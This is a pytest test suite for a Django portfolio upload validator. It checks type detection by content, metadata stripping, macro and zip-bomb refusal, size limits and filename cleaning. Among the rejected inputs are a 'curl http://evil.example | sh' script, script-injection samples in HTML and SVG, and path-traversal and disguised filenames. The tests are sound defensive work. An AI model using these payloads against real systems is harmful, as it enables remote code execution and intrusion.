import hashlib
import io
import random
import struct
import zipfile
import zlib

import pytest
from django.core.exceptions import ImproperlyConfigured, ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from fpdf import FPDF
from PIL import ExifTags, Image, ImageCms, ImageFile
from PIL.PngImagePlugin import PngInfo

from portfolios import uploads
from portfolios.uploads import (
    ACCEPTED_DESCRIPTION,
    CheckedUpload,
    check_upload,
    clean_name,
    max_upload_bytes,
)

MB = 1024 * 1024
SECRET = b"Acme PhoneCam 3000"  # metadata that must never survive re-encoding


# --- sample files -----------------------------------------------------------------------------


def noise_image(mode="RGB", size=(64, 48), seed=0):
    """Incompressible pixels, so that cutting the file in half really cuts the image data."""
    bands = len(Image.new(mode, (1, 1)).getbands())
    data = random.Random(seed).randbytes(size[0] * size[1] * bands)
    return Image.frombytes(mode, size, data)


def image_bytes(image, fmt, **options):
    buffer = io.BytesIO()
    image.save(buffer, format=fmt, **options)
    return buffer.getvalue()


def srgb_icc():
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def red_blue_swapped_icc():
    """An RGB profile whose red and blue primaries are swapped: its "red" is sRGB blue."""
    icc = bytearray(srgb_icc())
    (count,) = struct.unpack(">I", icc[128:132])
    entries = {bytes(icc[132 + 12 * i : 136 + 12 * i]): 132 + 12 * i for i in range(count)}
    red, blue = entries[b"rXYZ"], entries[b"bXYZ"]
    icc[red + 4 : red + 12], icc[blue + 4 : blue + 12] = (
        icc[blue + 4 : blue + 12],
        icc[red + 4 : red + 12],
    )
    return bytes(icc)


def exif_with_gps(orientation=1):
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = SECRET.decode()
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: (51.0, 30.0, 26.0),
        ExifTags.GPS.GPSLongitudeRef: "W",
        ExifTags.GPS.GPSLongitude: (0.0, 7.0, 39.0),
    }
    return exif


def jpeg_with_metadata(orientation=1):
    return image_bytes(
        noise_image(size=(64, 48)),
        "JPEG",
        exif=exif_with_gps(orientation),
        comment=b"Comment: " + SECRET,
        xmp=b"<x:xmpmeta>" + SECRET + b"</x:xmpmeta>",
        icc_profile=srgb_icc(),
    )


def png_with_metadata(mode="RGB"):
    info = PngInfo()
    info.add_text("Author", SECRET.decode())
    info.add_itxt("Description", SECRET.decode(), zip=True)
    return image_bytes(
        noise_image(mode),
        "PNG",
        pnginfo=info,
        exif=exif_with_gps(),
        icc_profile=srgb_icc(),
    )


def png_header_only(width, height):
    """A PNG whose header claims `width` x `height` but holds almost no pixel data."""

    def chunk(kind, data):
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


def animated_gif():
    frames = []
    for colour in (1, 2, 3):
        frame = Image.new("P", (32, 32), colour)
        frame.paste(0, (0, 0, 16, 16))  # a transparent corner
        frame.putpalette([0, 0, 0, 255, 0, 0, 0, 255, 0, 0, 0, 255] * 64)
        frames.append(frame)
    buffer = io.BytesIO()
    frames[0].save(
        buffer,
        format="GIF",
        save_all=True,
        append_images=frames[1:],
        duration=100,
        loop=0,
        comment=SECRET,
        transparency=0,
    )
    return buffer.getvalue()


def pdf_bytes():
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=12)
    pdf.cell(text="Reflective account: supervision, 3 March")
    return bytes(pdf.output())


def zip_bytes(members, compression=zipfile.ZIP_DEFLATED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members.items():
            if name == "mimetype":
                archive.writestr(name, data, compress_type=zipfile.ZIP_STORED)
            else:
                archive.writestr(name, data)
    return buffer.getvalue()


def content_types(main_part, main_type, extra=""):
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main_part}" ContentType="{main_type}"/>{extra}</Types>'
    )


OOXML = {
    "docx": (
        "word/document.xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    ),
    "xlsx": (
        "xl/workbook.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
    ),
    "pptx": (
        "ppt/presentation.xml",
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    ),
}


def ooxml_members(kind="docx", main_type=None, **extra):
    main_part, default_type = OOXML[kind]
    members = {
        "[Content_Types].xml": content_types(main_part, main_type or default_type),
        "_rels/.rels": "<Relationships/>",
        main_part: "<document>Supervision notes</document>",
    }
    members.update(extra)
    return members


def ooxml(kind="docx", main_type=None, **extra):
    return zip_bytes(ooxml_members(kind, main_type, **extra))


def odf(mimetype="application/vnd.oasis.opendocument.text", **extra):
    members = {
        "mimetype": mimetype,
        "content.xml": "<office:document-content/>",
        "META-INF/manifest.xml": "<manifest:manifest/>",
    }
    members.update(extra)
    return zip_bytes(members)


OLE_HEADER = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


class PlainFile:
    """An upload-like object that, unlike Django's UploadedFile, does no cleaning of its own."""

    def __init__(self, name, content, size=None):
        self.name = name
        self._stream = io.BytesIO(content)
        self.size = len(content) if size is None else size
        self.bytes_read = 0

    def read(self, n=-1):
        data = self._stream.read(n)
        self.bytes_read += len(data)
        return data


# --- helpers ----------------------------------------------------------------------------------


def upload(name, content, content_type="application/octet-stream"):
    return SimpleUploadedFile(name, content, content_type=content_type)


def rejection(name, content) -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        check_upload(upload(name, content))
    return caught.value


def message(error: ValidationError) -> str:
    (text,) = error.messages
    return text


def opened(content):
    return Image.open(io.BytesIO(content))


# --- accepted files ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "build", "extension", "content_type"),
    [
        ("reflection.pdf", pdf_bytes, ".pdf", "application/pdf"),
        (
            "supervision.docx",
            lambda: ooxml("docx"),
            ".docx",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        (
            "caseload.xlsx",
            lambda: ooxml("xlsx"),
            ".xlsx",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ),
        (
            "training.pptx",
            lambda: ooxml("pptx"),
            ".pptx",
            "application/vnd.openxmlformats-officedocument.presentationml.presentation",
        ),
        ("notes.odt", odf, ".odt", "application/vnd.oasis.opendocument.text"),
        (
            "hours.ods",
            lambda: odf("application/vnd.oasis.opendocument.spreadsheet"),
            ".ods",
            "application/vnd.oasis.opendocument.spreadsheet",
        ),
    ],
)
def test_documents_are_accepted_unchanged(name, build, extension, content_type):
    content = build()

    checked = check_upload(upload(name, content))

    assert isinstance(checked, CheckedUpload)
    assert checked.extension == extension
    assert checked.content_type == content_type
    assert checked.content == content
    assert checked.size == len(content)
    assert checked.sha256 == hashlib.sha256(content).hexdigest()
    assert checked.original_name == name


@pytest.mark.parametrize(
    ("name", "build", "extension", "content_type", "pil_format"),
    [
        ("photo.jpeg", jpeg_with_metadata, ".jpg", "image/jpeg", "JPEG"),
        ("diagram.png", png_with_metadata, ".png", "image/png", "PNG"),
        ("wave.gif", animated_gif, ".gif", "image/gif", "GIF"),
        (
            "poster.webp",
            lambda: image_bytes(
                noise_image(), "WEBP", exif=exif_with_gps(), icc_profile=srgb_icc()
            ),
            ".webp",
            "image/webp",
            "WEBP",
        ),
    ],
)
def test_images_are_accepted_and_re_encoded(name, build, extension, content_type, pil_format):
    original = build()

    checked = check_upload(upload(name, original))

    assert checked.extension == extension
    assert checked.content_type == content_type
    assert checked.content != original
    assert checked.size == len(checked.content)
    assert checked.sha256 == hashlib.sha256(checked.content).hexdigest()
    assert checked.original_name == name.rsplit(".", 1)[0] + extension
    with opened(checked.content) as image:
        assert image.format == pil_format
        image.load()


def test_jpeg_exif_gps_make_comment_xmp_and_icc_are_removed():
    original = jpeg_with_metadata()
    with opened(original) as before:  # the sample really carries the metadata
        assert before.getexif()[ExifTags.Base.Make] == SECRET.decode()
        assert before.getexif().get_ifd(ExifTags.IFD.GPSInfo)
        assert "icc_profile" in before.info
        assert SECRET in before.info["comment"]

    checked = check_upload(upload("photo.jpg", original))

    assert SECRET not in checked.content
    assert b"Exif\x00\x00" not in checked.content
    assert b"ICC_PROFILE" not in checked.content
    with opened(checked.content) as after:
        exif = after.getexif()
        assert ExifTags.Base.Make not in exif
        assert not exif.get_ifd(ExifTags.IFD.GPSInfo)
        for key in ("exif", "comment", "xmp", "icc_profile"):
            assert key not in after.info


def test_png_text_chunks_exif_and_icc_are_removed():
    original = png_with_metadata()
    with opened(original) as before:
        assert before.info["Author"] == SECRET.decode()

    checked = check_upload(upload("diagram.png", original))

    assert SECRET not in checked.content
    for chunk_type in (b"tEXt", b"zTXt", b"iTXt", b"eXIf", b"iCCP"):
        assert chunk_type not in checked.content
    with opened(checked.content) as after:
        assert "Author" not in after.info
        assert "Description" not in after.info
        assert not after.getexif()


def test_webp_exif_and_icc_are_removed():
    original = image_bytes(
        noise_image(),
        "WEBP",
        exif=exif_with_gps(),
        icc_profile=srgb_icc(),
        xmp=b"<x:xmpmeta>" + SECRET + b"</x:xmpmeta>",
    )
    assert SECRET in original

    checked = check_upload(upload("poster.webp", original))

    assert SECRET not in checked.content
    for chunk_type in (b"EXIF", b"ICCP", b"XMP "):
        assert chunk_type not in checked.content


def test_image_pixels_survive_re_encoding():
    source = noise_image(size=(16, 16))

    checked = check_upload(upload("pixels.png", image_bytes(source, "PNG", icc_profile=srgb_icc())))

    with opened(checked.content) as after:
        assert after.mode == "RGB"
        assert after.size == (16, 16)
        assert after.tobytes() == source.tobytes()


def test_colours_are_converted_to_srgb_before_the_profile_is_dropped():
    red = Image.new("RGB", (8, 8), (255, 0, 0))
    original = image_bytes(red, "PNG", icc_profile=red_blue_swapped_icc())

    checked = check_upload(upload("swatch.png", original))

    assert b"iCCP" not in checked.content
    with opened(checked.content) as after:
        assert after.getpixel((0, 0)) == (0, 0, 255)


def test_a_broken_colour_profile_is_dropped_and_the_pixels_kept():
    source = noise_image(size=(16, 16))
    original = image_bytes(source, "PNG", icc_profile=b"not a colour profile")

    checked = check_upload(upload("pixels.png", original))

    assert b"iCCP" not in checked.content
    with opened(checked.content) as after:
        assert after.tobytes() == source.tobytes()


def test_png_transparency_is_kept():
    checked = check_upload(upload("logo.png", png_with_metadata(mode="RGBA")))

    with opened(checked.content) as after:
        assert after.mode == "RGBA"


def test_exif_orientation_is_applied_before_it_is_dropped():
    original = jpeg_with_metadata(orientation=6)  # "rotate 90° clockwise to display"
    with opened(original) as before:
        assert before.size == (64, 48)

    checked = check_upload(upload("sideways.jpg", original))

    with opened(checked.content) as after:
        assert after.size == (48, 64)
        assert ExifTags.Base.Orientation not in after.getexif()


def test_animated_gif_is_flattened_to_its_first_frame_without_its_comment():
    original = animated_gif()
    with opened(original) as before:
        assert before.n_frames == 3
        assert before.info["transparency"] == 0

    checked = check_upload(upload("wave.gif", original))

    assert SECRET not in checked.content
    with opened(checked.content) as after:
        assert after.n_frames == 1
        assert "comment" not in after.info
        assert after.info.get("transparency") == 0


def test_cmyk_jpeg_becomes_rgb():
    original = image_bytes(noise_image("CMYK"), "JPEG")

    checked = check_upload(upload("print.jpg", original))

    with opened(checked.content) as after:
        assert after.format == "JPEG"
        assert after.mode == "RGB"


# --- content decides the type, never the name or the browser --------------------------------


def test_the_browser_content_type_and_the_name_are_ignored():
    png = image_bytes(noise_image(), "PNG")

    checked = check_upload(SimpleUploadedFile("holiday.exe", png, "application/x-msdownload"))

    assert checked.content_type == "image/png"
    assert checked.extension == ".png"
    assert checked.original_name == "holiday.png"


@pytest.mark.parametrize(
    ("name", "content", "raw"),
    [
        (
            "report.pdf",
            b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200,
            b"MZ",
        ),
        ("report.pdf", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200, b"ELF"),
        ("run.docx", b"#!/bin/sh\ncurl http://evil.example | sh\n", b"curl"),
        (
            "statement.pdf",
            b"<!DOCTYPE html><html><script>alert(1)</script></html>",
            b"<script>",
        ),
        (
            "logo.png",
            b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
            b"<svg",
        ),
        ("notes.txt", b"Just some plain text notes.\n", b"plain text"),
        ("padded.pdf", b"\n%PDF-1.4\n%%EOF\n", b"%PDF"),
        ("archive.docx", zip_bytes({"readme.txt": "hello", "photo.jpg": "not really"}), b"PK"),
        (
            "slides.odp",
            odf("application/vnd.oasis.opendocument.presentation"),
            b"presentation",
        ),
    ],
)
def test_unaccepted_types_are_refused_by_content(name, content, raw):
    error = rejection(name, content)

    assert error.code == "unsupported_type"
    text = message(error)
    assert f"“{name}” is not a file type Capable accepts" in text
    assert ACCEPTED_DESCRIPTION in text
    assert raw.decode() not in text


# --- damaged files ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "build", "label"),
    [
        ("scan.png", lambda: image_bytes(noise_image(), "PNG"), "a PNG image"),
        ("scan.jpg", lambda: image_bytes(noise_image(), "JPEG", quality=95), "a JPEG image"),
        ("scan.gif", lambda: image_bytes(noise_image("L", (128, 128)), "GIF"), "a GIF image"),
        ("scan.webp", lambda: image_bytes(noise_image(), "WEBP", lossless=True), "a WebP image"),
    ],
)
def test_truncated_images_are_damaged(name, build, label):
    content = build()

    error = rejection(name, content[: len(content) // 2])

    assert error.code == "damaged"
    assert (
        message(error) == f"“{name}” looks like {label} but could not be read; it may be damaged."
    )


@pytest.mark.parametrize(
    "build",
    [
        lambda: image_bytes(noise_image(), "PNG"),
        lambda: image_bytes(noise_image(), "JPEG", quality=95),
    ],
)
def test_truncated_images_are_refused_even_if_pillow_was_told_to_load_them(monkeypatch, build):
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)
    content = build()

    error = rejection("scan.png", content[: len(content) // 2])

    assert error.code == "damaged"
    assert ImageFile.LOAD_TRUNCATED_IMAGES is True  # put back afterwards


def test_png_with_a_corrupt_chunk_is_damaged():
    content = bytearray(image_bytes(noise_image(), "PNG"))
    content[len(content) // 2] ^= 0xFF  # breaks the IDAT checksum

    error = rejection("scan.png", bytes(content))

    assert error.code == "damaged"


def test_pdf_without_end_of_file_marker_is_damaged():
    content = pdf_bytes()

    error = rejection("reflection.pdf", content[: len(content) // 2])

    assert error.code == "damaged"
    assert message(error) == (
        "“reflection.pdf” looks like a PDF but could not be read; it may be damaged."
    )


def test_pdf_end_of_file_marker_must_be_near_the_end():
    content = pdf_bytes()
    assert check_upload(upload("ok.pdf", content + b"\n" * 100)).extension == ".pdf"

    error = rejection("padded.pdf", content + b"\x00" * 4096)

    assert error.code == "damaged"


def test_truncated_office_document_is_damaged():
    content = ooxml("docx")

    error = rejection("supervision.docx", content[: len(content) // 2])

    assert error.code == "damaged"
    assert "“supervision.docx”" in message(error)


def test_office_document_with_a_corrupt_member_is_damaged():
    body = b"<document>" + b"Supervision notes. " * 20 + b"</document>"
    members = {**ooxml_members("docx"), "word/document.xml": body}
    content = zip_bytes(members, compression=zipfile.ZIP_STORED)
    corrupt = content.replace(b"Supervision notes. ", b"Supervision NOTES. ", 1)
    assert corrupt != content

    error = rejection("supervision.docx", corrupt)

    assert error.code == "damaged"
    assert message(error) == (
        "“supervision.docx” looks like a Word document but could not be read; it may be damaged."
    )


def test_office_document_without_content_types_is_damaged():
    members = ooxml_members("xlsx")
    del members["[Content_Types].xml"]

    error = rejection("caseload.xlsx", zip_bytes(members))

    assert error.code == "damaged"
    assert "looks like an Excel spreadsheet" in message(error)


# --- macros, legacy Office and encrypted files ------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "save_as"),
    [
        (
            "supervision.docm",
            ooxml(
                "docx",
                main_type="application/vnd.ms-word.document.macroEnabled.main+xml",
                **{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"},
            ),
            "a Word Document (.docx)",
        ),
        (
            "supervision.docx",
            ooxml("docx", **{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}),
            "a Word Document (.docx)",
        ),
        (
            "caseload.xlsx",
            ooxml("xlsx", main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
            "an Excel Workbook (.xlsx)",
        ),
        (
            "caseload.xlsx",
            ooxml("xlsx", **{"xl/macrosheets/sheet1.xml": "<xm:macrosheet/>"}),
            "an Excel Workbook (.xlsx)",
        ),
        (
            "training.pptm",
            ooxml("pptx", **{"ppt/vbaProject.bin": b"macro"}),
            "a PowerPoint Presentation (.pptx)",
        ),
        (
            "notes.odt",
            odf(**{"Basic/Standard/Module1.xml": "<script:module/>"}),
            "an OpenDocument text document (.odt)",
        ),
    ],
)
def test_documents_with_macros_are_refused(name, content, save_as):
    error = rejection(name, content)

    assert error.code == "macros"
    text = message(error)
    assert f"“{name}” contains macros" in text
    assert save_as in text


def test_opendocument_with_only_an_empty_macro_library_index_is_accepted():
    content = odf(**{"Basic/script-lc.xml": "<library:libraries/>"})

    assert check_upload(upload("notes.odt", content)).extension == ".odt"


def test_legacy_office_files_are_refused():
    error = rejection("supervision.doc", OLE_HEADER)

    assert error.code == "legacy_office"
    text = message(error)
    assert "“supervision.doc”" in text
    assert ".docx" in text
    assert "PDF" in text


def test_password_protected_office_files_are_refused_as_encrypted():
    content = OLE_HEADER + "EncryptionInfo".encode("utf-16-le") + b"\x00" * 16
    content += "EncryptedPackage".encode("utf-16-le")

    error = rejection("secret.docx", content)

    assert error.code == "encrypted"
    assert "“secret.docx” is protected with a password" in message(error)


# --- zip bombs --------------------------------------------------------------------------------


def test_highly_compressed_member_is_refused_without_being_decompressed(monkeypatch):
    content = ooxml("docx", **{"word/media/image1.bin": b"\x00" * (5 * MB)})
    assert len(content) < 5 * MB // 100  # compressed more than 100 times

    def testzip(self):
        raise AssertionError("the archive was decompressed before its sizes were checked")

    monkeypatch.setattr(zipfile.ZipFile, "testzip", testzip)

    error = rejection("supervision.docx", content)

    assert error.code == "unsafe_archive"
    assert "“supervision.docx”" in message(error)


def test_small_repetitive_members_are_not_mistaken_for_bombs():
    content = ooxml("xlsx", **{"xl/worksheets/sheet1.xml": b"<c/>" * 50_000})  # 200 KB

    assert check_upload(upload("caseload.xlsx", content)).extension == ".xlsx"


def test_total_uncompressed_size_is_capped(monkeypatch):
    monkeypatch.setattr(uploads, "MAX_ARCHIVE_UNCOMPRESSED_BYTES", 100_000)
    members = ooxml_members("pptx", **{"ppt/media/video.bin": random.Random(1).randbytes(150_000)})

    error = rejection("training.pptx", zip_bytes(members, compression=zipfile.ZIP_STORED))

    assert error.code == "unsafe_archive"


def test_number_of_members_is_capped(monkeypatch):
    monkeypatch.setattr(uploads, "MAX_ARCHIVE_MEMBERS", 5)
    extra = {f"word/media/image{i}.png": "x" for i in range(5)}

    error = rejection("supervision.docx", ooxml("docx", **extra))

    assert error.code == "unsafe_archive"


# --- image bombs ------------------------------------------------------------------------------


def test_images_over_40_megapixels_are_refused_before_decoding():
    error = rejection("huge.png", png_header_only(7000, 7000))  # 49 MP, almost no data

    assert error.code == "image_too_large"
    assert message(error) == (
        "“huge.png” is 7,000 by 7,000 pixels (49 megapixels); the largest image you can attach "
        "is 40 megapixels. Make it smaller and attach it again."
    )


def test_an_image_of_exactly_40_megapixels_is_not_refused_for_its_size():
    error = rejection("big.png", png_header_only(8000, 5000))  # allowed size, but no pixel data

    assert error.code == "damaged"


def test_pillow_decompression_bomb_warning_is_a_refusal(monkeypatch):
    monkeypatch.setattr(
        Image, "MAX_IMAGE_PIXELS", 1000
    )  # Pillow warns above 1000, errors above 2000

    error = rejection("bomb.png", image_bytes(noise_image(size=(40, 40)), "PNG"))  # 1600 pixels

    assert error.code == "image_too_large"
    assert "“bomb.png” has too many pixels" in message(error)


def test_pillow_decompression_bomb_error_is_a_refusal(monkeypatch):
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 500)

    error = rejection("bomb.gif", image_bytes(noise_image("L", (40, 40)), "GIF"))

    assert error.code == "image_too_large"


# --- size -------------------------------------------------------------------------------------


def test_default_limit_is_10_mb(settings):
    del settings.CAPABLE_PORTFOLIO_MAX_UPLOAD_BYTES

    assert max_upload_bytes() == 10 * MB


def test_limit_comes_from_settings(settings):
    settings.CAPABLE_PORTFOLIO_MAX_UPLOAD_BYTES = 12345

    assert max_upload_bytes() == 12345


@pytest.mark.parametrize("value", [0, -1, "10MB", None])
def test_a_nonsense_limit_is_a_configuration_error(settings, value):
    settings.CAPABLE_PORTFOLIO_MAX_UPLOAD_BYTES = value

    with pytest.raises(ImproperlyConfigured):
        max_upload_bytes()


def test_too_large_file_is_refused_from_its_size_without_reading_it():
    class Unreadable:
        name = "report.pdf"
        size = 13_002_342

        def read(self, n=-1):
            raise AssertionError("the file was read")

        chunks = read

    with pytest.raises(ValidationError) as caught:
        check_upload(Unreadable())

    assert caught.value.code == "too_large"
    assert message(caught.value) == (
        "“report.pdf” is 12.4 MB; the largest file you can attach is 10 MB."
    )


def test_too_large_uploaded_file(settings):
    settings.CAPABLE_PORTFOLIO_MAX_UPLOAD_BYTES = 1000
    content = pdf_bytes()
    assert len(content) > 1000

    error = rejection("reflection.pdf", content)

    assert error.code == "too_large"
    assert "“reflection.pdf” is " in message(error)
    assert "the largest file you can attach is 1000 bytes" in message(error)


def test_a_file_exactly_at_the_limit_is_accepted(settings):
    content = pdf_bytes()
    settings.CAPABLE_PORTFOLIO_MAX_UPLOAD_BYTES = len(content)

    assert check_upload(upload("reflection.pdf", content)).size == len(content)

    settings.CAPABLE_PORTFOLIO_MAX_UPLOAD_BYTES = len(content) - 1
    assert rejection("reflection.pdf", content).code == "too_large"


def test_sizes_that_round_to_the_limit_are_given_in_bytes():
    with pytest.raises(ValidationError) as caught:
        check_upload(PlainFile("report.pdf", b"", size=10 * MB + 1))
    error = caught.value

    assert message(error) == (
        "“report.pdf” is 10,485,761 bytes; the largest file you can attach is 10,485,760 bytes."
    )


def test_reading_stops_just_past_the_limit_when_the_size_is_wrong(settings):
    settings.CAPABLE_PORTFOLIO_MAX_UPLOAD_BYTES = 1000
    lying = PlainFile("report.pdf", b"%PDF-" + b"\x00" * 100_000, size=10)

    with pytest.raises(ValidationError) as caught:
        check_upload(lying)

    assert caught.value.code == "too_large"
    assert "“report.pdf” is larger than 1000 bytes" in message(caught.value)
    assert lying.bytes_read == 1001


def test_empty_file_is_refused():
    error = rejection("empty.pdf", b"")

    assert error.code == "empty"
    assert "“empty.pdf” is empty" in message(error)


def test_empty_file_with_unknown_size_is_refused():
    file = PlainFile("empty.pdf", b"")
    file.size = None

    with pytest.raises(ValidationError) as caught:
        check_upload(file)

    assert caught.value.code == "empty"


def test_the_file_is_rewound_after_checking():
    content = pdf_bytes()
    file = upload("reflection.pdf", content)

    check_upload(file)

    assert file.read() == content


# --- names ------------------------------------------------------------------------------------


def test_path_parts_are_removed_from_the_name():
    checked = check_upload(PlainFile("../../etc/passwd.pdf", pdf_bytes()))

    assert checked.original_name == "passwd.pdf"


def test_path_parts_are_removed_from_an_uploaded_file_name():
    checked = check_upload(upload("../../etc/passwd.pdf", pdf_bytes()))

    assert checked.original_name == "passwd.pdf"


def test_windows_paths_are_removed_from_the_name():
    checked = check_upload(upload("C:\\Users\\jo\\Desktop\\report.pdf", pdf_bytes()))

    assert checked.original_name == "report.pdf"


def test_messages_use_the_cleaned_name():
    error = rejection("C:\\temp\\re\x1bport\u202e.pdf", b"MZ\x90\x00")

    assert message(error).startswith("“report.pdf” is not a file type")


@pytest.mark.parametrize(
    ("raw", "extension", "expected"),
    [
        ("../../etc/passwd.pdf", ".pdf", "passwd.pdf"),
        ("..\\..\\boot.ini", ".pdf", "boot.pdf"),
        ("scan.jpeg", ".jpg", "scan.jpg"),
        ("holiday.exe", ".png", "holiday.png"),
        ("notes", ".pdf", "notes.pdf"),
        ("Report v1.2 final", ".pdf", "Report v1.2 final.pdf"),
        ("report.pdf.exe", ".pdf", "report.pdf.pdf"),
        ("re\x00po\trt\nname.pdf", ".pdf", "reportname.pdf"),
        ("invoice\u202egnp.exe", ".png", "invoicegnp.png"),
        ("  spaced   out  .docx", ".docx", "spaced out.docx"),
        ("cafe\u0301.pdf", ".pdf", "caf\u00e9.pdf"),
        (".pdf", ".pdf", "attachment.pdf"),
        ("..", ".pdf", "attachment.pdf"),
        ("", ".pdf", "attachment.pdf"),
        ("folder/", ".pdf", "attachment.pdf"),
    ],
)
def test_clean_name(raw, extension, expected):
    assert clean_name(raw, extension) == expected


def test_long_names_are_cut_to_200_characters_keeping_the_extension():
    checked = check_upload(upload("a" * 300 + ".pdf", pdf_bytes()))

    assert len(checked.original_name) == 200
    assert checked.original_name == "a" * 196 + ".pdf"
